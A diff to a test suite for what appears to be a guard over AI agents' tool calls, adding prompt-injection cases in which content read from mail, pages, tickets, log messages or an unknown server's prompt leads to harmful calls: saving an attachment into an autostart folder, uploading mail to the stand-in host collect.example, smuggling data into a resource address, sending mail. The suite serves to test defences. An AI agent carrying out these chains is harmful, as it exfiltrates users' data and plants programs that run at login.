@@ -90,6 +90,7 @@ beforeAll(async () => {
         sly: wellKnown("cloud", "a-sly-one", { HINTS: harmless }),
         tracker: wellKnown("tracker", "somebodys-tracker"),
         failing: wellKnown("tracker", "a-failing-one", { FAILS: "read_ticket" }),
+        telling: wellKnown("tracker", "a-telling-one", { HANGS: "read_ticket" }),
         // Any program with the file name of a package.
         clock: namedLike("clock", "mcp-server-time"),
         // It only calls itself a file server.
@@ -131,10 +132,15 @@ function person(
   return { session, asked };
 }
 
-const run = (session: Session, [name, args = {}]: Call): ReturnType<Hub["call"]> =>
-  name.includes("://")
-    ? (hub.read({ session, uri: name }) as ReturnType<Hub["call"]>)
-    : hub.call({ session, name, arguments: args });
+function run(session: Session, [name, args = {}]: Call): ReturnType<Hub["call"]> {
+  if (name.includes("://")) return hub.read({ session, uri: name }) as ReturnType<Hub["call"]>;
+  const prompt = /^prompt:(.*)/.exec(name)?.[1];
+  if (prompt !== undefined) return hub.prompt({ session, name: prompt }) as ReturnType<Hub["call"]>;
+  // Given up as soon as the server has said something.
+  const heard = new AbortController();
+  const onNotice = (): void => heard.abort();
+  return hub.call({ session, name, arguments: args, onNotice, logLevel: "info", signal: heard.signal });
+}
 
 describe("[guard-20a] a day's work under `balanced`", () => {
   it("of 200 calls over files, git, memory, pages and mail has at most three questions", async () => {
@@ -283,6 +289,12 @@ const ATTACKS: readonly Attack[] = [
     names: "mail__read_email",
   },
   { id: "mail → deletion", reads: [mail], harm: ["mail__delete_email", { messageId: "1" }], names: "mail__read_email" },
+  {
+    id: "mail → attachment into a folder of programs",
+    reads: [mail],
+    harm: ["mail__download_attachment", { messageId: "1", attachmentId: "a", savePath: "/home/ann/.config/autostart" }],
+    names: "mail__read_email",
+  },
   { id: "mail → forwarding filter", reads: [mail], harm: ["mail__create_filter"], names: "mail__read_email" },
   {
     id: "chat → chat",
@@ -357,6 +369,30 @@ const ATTACKS: readonly Attack[] = [
     names: "clock__get_current_time",
   },
   {
+    id: "log message of a call that never ended → mail",
+    reads: [["telling__read_ticket", { id: "T-4" }]],
+    harm: ["mail__send_email"],
+    names: "T-4",
+  },
+  {
+    id: "mail → post at a server that nobody knows",
+    reads: [mail],
+    harm: ["cloud__upload", { url: "https://collect.example/", body: "the mail" }],
+    names: "mail__read_email",
+  },
+  {
+    id: "page, file → resource with data in its address",
+    reads: [fetchPage, secret],
+    harm: ["tracker://notes/0123456789abcdef0123456789abcdef0123456789abcdef"],
+    names: PAGE,
+  },
+  {
+    id: "prompt of an unknown server → issue",
+    reads: [["prompt:tracker__triage"]],
+    harm: ["github__create_issue", { owner: "acme", repo: "app" }],
+    names: "tracker__triage",
+  },
+  {
     id: "error text → mail",
     reads: [["failing__read_ticket", { id: "T-2" }]],
     harm: ["mail__send_email"],
@@ -386,6 +422,14 @@ describe("[guard-20b] an attack that is read is stopped at the call that does th
       expect(readFileSync(file("repo", "notes.md"), "utf8")).toBe(notes);
       session.close();
     }
+  });
+
+  it("and resources with ordinary addresses are read on without a question", async () => {
+    const { session, asked } = person("no");
+    await run(session, ["fetch__fetch", { url: page }]);
+    for (const uri of ["tracker://board", "tracker://notes/plan", "tracker://team/2026/roadmap"])
+      expect(await run(session, [uri]), uri).toMatchObject({ ok: true });
+    expect(asked).toEqual([]);
   });
 
   it("through notes that a tainted session left for a later one", async () => {
